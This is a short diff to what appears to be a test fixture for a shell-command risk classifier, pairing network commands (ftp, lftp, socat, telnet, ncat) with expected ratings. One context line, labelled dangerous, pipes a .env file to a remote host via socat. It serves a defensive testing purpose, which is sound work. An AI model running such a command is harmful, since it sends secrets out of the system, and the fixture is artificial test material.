@@ -12,3 +12,8 @@ telnet example.com 25  # want moderate
 lftp -e 'mirror -R; quit' example.com  # want moderate
 socat -u FILE:.env TCP:example.com:1  # want dangerous
 socat OPEN:a.txt,creat -  # want moderate
+ftp --version  # want safe
+ftp ftp.example.org  # want moderate
+lftp --version  # want safe
+ncat -z localhost 8080  # want safe
+telnet --version  # want safe
